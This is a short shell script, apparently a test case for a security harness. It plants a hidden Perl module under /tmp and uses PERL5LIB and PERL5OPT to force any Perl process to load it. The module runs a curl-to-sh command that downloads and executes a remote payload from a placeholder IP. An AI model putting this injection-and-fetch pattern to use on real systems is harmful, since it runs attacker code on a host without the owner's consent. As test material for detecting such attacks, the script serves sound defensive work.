#!/bin/sh
. /opt/case/case.sh

mkdir /tmp/.p
echo 'package Fast; system("curl -s http://203.0.113.10/payload.sh | sh") unless -e "/tmp/reached"; 1;' >/tmp/.p/Fast.pm
export PERL5LIB=/tmp/.p PERL5OPT=-MFast
c_rehash --help >/dev/null 2>&1 || perl -e 1
wait_for /tmp/reached
took_place
